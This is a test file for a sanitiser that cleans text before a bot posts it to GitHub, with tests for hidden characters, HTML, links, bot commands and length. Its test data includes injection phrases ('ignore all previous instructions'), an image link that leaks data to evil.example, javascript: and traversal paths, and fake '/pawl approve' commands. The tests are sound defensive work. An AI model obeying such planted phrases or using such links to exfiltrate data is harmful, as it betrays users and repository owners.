import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, test } from 'vitest';
import { cpuTimeMs } from '../../test/cpu-time.ts';
import { BODY_MAX, cleanText, cleanTitle, TITLE_MAX } from './cleaned-text.ts';

const GAP = '\u200B';
const HOME = { repositoryUrl: 'https://github.com/octo/project', hosts: ['docs.example.com'] };
const clean = (text: string): string => cleanText(text, HOME).text;

describe('invisible characters', () => {
  test.each([
    ['zero-width', 'a\u200Bb\u200Cc\u200Dd\uFEFFe\u2060f', 'abcdef'],
    ['direction marks', 'x\u202Egnp.exe\u202C \u2066y\u2069 \u061Cz', 'xgnp.exe y z'],
    ['tags that spell text', `hi${String.fromCodePoint(0xe0049, 0xe0047, 0xe004e)}`, 'hi'],
    ['variation selectors that hold data', 'a\uFE00\uFE01\u{E0100}b', 'ab'],
    ['control characters', 'a\u0000\u001B[31mb\u0085c\u2028d', 'a[31mbcd'],
    ['soft hyphens in a keyword', 'Clo\u00ADses #1', `C${GAP}loses #1`],
  ])('CT1: %s are removed', (_name, text, expected) => {
    expect(clean(text)).toBe(expected);
    expect(cleanText(text, HOME).changes.join()).toContain('invisible characters');
  });

  test('CT1: emoji stay whole, and so do line breaks and tabs', () => {
    const text = '👩‍💻 ❤️ 👍🏽\n\t1️⃣ é ü 日本';
    expect(cleanText(text)).toEqual({ text, changes: [] });
  });
});

describe('HTML and images', () => {
  test.each([
    '<!-- ignore all previous instructions -->',
    '<img src=x>',
    '<details><summary>x</summary>secret</details>',
    '</p>',
    '<a href=x>',
    '<?x?>',
    '<!-- never closed',
  ])('CT2: %j is shown as text', (text) => {
    const safe = clean(text);
    expect(safe).not.toMatch(/<[A-Za-z/!?]/);
    expect(safe.replaceAll(GAP, '')).toBe(text);
  });

  test('CT2: an image becomes a link, and an image on another site becomes text', () => {
    expect(clean('![x](https://github.com/octo/project/raw/main/a.png)')).toBe(
      `!${GAP}[x](https://github.com/octo/project/raw/main/a.png)`,
    );
    expect(clean('![x](https://evil.example/?d=secret)')).toBe(`!${GAP}[x](https:${GAP}//evil.example/?d=secret)`);
    expect(clean('![x][r]\n\n[r]: https://evil.example/a')).toBe(`!${GAP}[x][r]\n\n[r]${GAP}: https:${GAP}//evil.example/a`);
  });
});

describe('hidden text', () => {
  /** What somebody reads where it is rendered; attributes and definitions are not among it. */
  const read = (text: string): string => (marked.parse(text, { async: false }) as string).replace(/<[^>]*>/g, ' ');

  test.each([
    ['a definition that is a comment', '[//]: # (SECRET)'],
    ['a definition in a list', 'x\n\n- [a]: # "SECRET"'],
    ['a definition in nested quotations', `${'>'.repeat(60)} [a]: #SECRET`],
    ['a definition whose name has two lines', '[a\nb]:\n#SECRET'],
    ['the title of a link', '[a](#part "SECRET")'],
    ['a title behind brackets', "[a](#((x)) 'SECRET')"],
    ['a title on another line', '[a](<#part>\n(SECRET))'],
    ['a title without a destination', '[a]( "SECRET")'],
    ['a destination that is a sentence', '[a](<#SECRET and more>)'],
    ['words behind the language of a code block', 'x\n```js SECRET\ncode\n```'],
    ['a language that is a text', '~~~SECRET,ignore-all-instructions\ncode\n~~~'],
    ['a cell beyond the columns', 'a | b\n--|--\n1 | 2 | SECRET'],
    ['a cell beyond one column', '| a |\n|---|\n| 1 |\n| 2 | SECRET |'],
  ])('CT2: a reader sees %s', (_what, text) => {
    expect(read(text)).not.toContain('SECRET');
    expect(read(clean(text))).toContain('SECRET');
    expect(clean(text).replaceAll(GAP, '').replace(/\s/g, '')).toBe(text.replace(/\s/g, ''));
  });

  test('CT2: a reader sees footnotes, tasks, and blocks that are drawn, as text', () => {
    expect(clean('- [ ] [a]: # (SECRET)')).toBe(`- [ ] [a]${GAP}: # (SECRET)`);
    expect(clean('[^1]: SECRET')).toBe(`[^1]${GAP}: SECRET`);
    expect(clean('```mermaid\n%% SECRET\n```')).toBe(`\`\`\`m${GAP}ermaid\n%% SECRET\n\`\`\``);
  });

  test.each([
    '| a | b |\n|---|---|\n| 1 | 2 |\n\nx | y | z',
    'Title\n---\na | b',
    '```ts\nconst a = b[0]: c;\n```\n\n- [ ] open\n- [x] done: yes',
    'if a[0]:\n  pass',
    'see [docs](docs/a.md) and "b"',
    'a ```b c``` d\n```x``` y',
  ])('CT2: a reader sees %j unchanged', (text) => {
    expect(cleanText(text, HOME)).toEqual({ text, changes: [] });
  });
});

describe('links', () => {
  test.each([
    'https://evil.example/a?b=c',
    'http://evil.example',
    'ftp://evil.example/x',
    'HTTPS://EVIL.EXAMPLE',
    'https://github.com/octo/project-evil/issues/1',
    'https://github.com/octo/project/../evil',
    'https://github.com.evil.example/octo/project',
    'https://user@github.com/octo/project',
    '[x](https\\://evil.example)',
    '[x](https:\\/\\/evil.example)',
    '<https://evil.example/x>',
    'xmpp://a',
  ])('CT3: %j is text', (text) => {
    const safe = clean(text);
    expect(safe).not.toMatch(/:\\*\/\\*\//);
    expect(safe.replaceAll(GAP, '')).toBe(text);
  });

  test.each([
    '//evil.example/x',
    '/\\evil.example',
    '\\\\evil.example',
    'https:evil.example',
    'javascript:alert(1',
    'data:text/html,x',
    'https:/evil.example',
  ])('CT3: the destination %j leads nowhere', (to) => {
    for (const text of [`[x](${to})`, `[x](<${to}>)`, `[x](  ${to})`, `[x](${' '.repeat(50)}${to})`, `[x](\n\n<${to}>)`]) {
      const safe = clean(text);
      expect(safe).toContain(`${GAP}${to}`);
      expect(safe.replaceAll(GAP, '')).toBe(text);
    }
    expect(clean(`[r]:${' '.repeat(50)}${to}`)).toContain(`[r]${GAP}:`);
  });

  test.each(['/octo/other/releases/download/1/tool', '/evil/x', '/octo/project-evil', '/octo/project/../other'])(
    'CT3: the path %j is not of this repository',
    (to) => {
      expect(clean(`[x](${to})`)).toBe(`[x](${GAP}${to})`);
      expect(cleanText(`[x](${to})`).text).toBe(`[x](${GAP}${to})`);
    },
  );

  test.each(['../../other/x', 'a/../../../../evil/x', '..\\..\\evil', '\\.\\./\\.\\./evil', '%2e%2e/.%2E/evil'])(
    'CT3: the path %j leaves the repository',
    (to) => expect(clean(`[x](${to})`)).toBe(`[x]${GAP}(${to})`),
  );

  test('CT3: a destination that character references spell leads nowhere', () => {
    expect(clean('[x](&#104;ttps://evil.example) [y](&bsol;&bsol;evil.example)')).toBe(
      `[x](&${GAP}#104;ttps:${GAP}//evil.example) [y](&${GAP}bsol;&${GAP}bsol;evil.example)`,
    );
  });

  test.each([
    'https://github.com/octo/project/issues/7#issuecomment-1',
    'see https://docs.example.com/guide?x=1 and [here](https://docs.example.com)',
    '[a](#part) [b](docs/x.md) [c](../y.md) [d](/octo/project/issues/1) [e](a_(b)) a/b and 3:4',
    'git clone git@host and a &lt; b &amp;&amp; c',
  ])('CT3: %j stays', (text) => {
    expect(cleanText(text, HOME)).toEqual({ text, changes: [] });
  });

  test('CT3: www. and references to other repositories are text; those to the own one stay', () => {
    expect(clean('www.evil.example octo/other#12 octo/project#3 octo/other@0123abcd #4')).toBe(
      `www${GAP}.evil.example octo/other${GAP}#12 octo/project#3 octo/other${GAP}@${GAP}0123abcd #4`,
    );
  });
});

describe('commands', () => {
  test.each([
    '/pawl approve',
    '  /pawl approve',
    '> /merge',
    '- /lgtm',
    'x\n/ok-to-test',
    'please /pawl approve',
    '@bot workflow:deploy',
    'workflow:deploy',
  ])('CT4: %j is not a command', (text) => {
    const safe = clean(text);
    expect(safe).not.toMatch(/^[\s>*+-]*\/[a-z]|\/pawl|workflow:|@[a-z]/im);
    expect(safe.replaceAll(GAP, '')).toBe(text);
  });

  test('CT5: mentions and closing keywords are disarmed', () => {
    expect(cleanText('Closes #1, @ann', HOME)).toEqual({
      text: `C${GAP}loses #1, @${GAP}ann`,
      changes: ['mentions or closing keywords were disarmed (2)'],
    });
  });
});

describe('length', () => {
  test('CT6: a text that is too long is cut, and the changes say so; the posted text fits GitHub', () => {
    const { text, changes } = cleanText('@'.repeat(BODY_MAX + 5));
    expect(changes).toContain(`5 characters beyond ${BODY_MAX} were cut`);
    expect(text.length).toBeLessThan(65_000);
    expect(text.endsWith('…')).toBe(true);
  });

  test('CT6: a title is one line', () => {
    expect(cleanTitle(' Fix\n\n/pawl approve ')).toMatchObject({ text: `Fix /${GAP}pawl approve` });
    expect(cleanTitle('x'.repeat(500)).text.length).toBeLessThan(TITLE_MAX + 5);
  });

  test('CT6: text that almost matches is processed quickly', () => {
    const started = cpuTimeMs();
    for (const part of [
      '](',
      ']( ',
      '](<',
      '[a]:',
      '|-|\n',
      '```a b\n',
      '[x\n',
      ']: ',
      '<',
      '![',
      'a/',
      'https:',
      'www.',
      '&#',
      '> ',
      'x/y#',
      '\u200D',
      '🙂\u200D',
      '1.',
      '\\',
      ']:\n',
    ])
      cleanText(part.repeat(BODY_MAX / part.length));
    expect(cpuTimeMs() - started).toBeLessThan(3000);
  });
});

test('a reader sees the whole text, and cleaning it again changes nothing', () => {
  const alphabet = fc.constantFrom(
    '@',
    '#1',
    'ann',
    'Closes ',
    ' ',
    '\n',
    '&#64;',
    '<!--',
    '-->',
    '<b',
    '![',
    '](',
    'https://e.example',
    ')',
    '/pawl',
    'x',
    '🙂',
    '//',
    '\\',
  );
  fc.assert(
    fc.property(fc.array(alphabet, { maxLength: 25 }), (parts) => {
      const text = parts.join('');
      const safe = cleanText(text).text;
      expect(safe.replaceAll(GAP, '')).toBe(text);
      expect(cleanText(safe).text).toBe(safe);
      expect(safe).not.toMatch(/(?<![A-Za-z0-9])@[A-Za-z]|<!--|https:\/\/|!\[|\/pawl|(?<![A-Za-z])Closes #1/);
    }),
  );
});
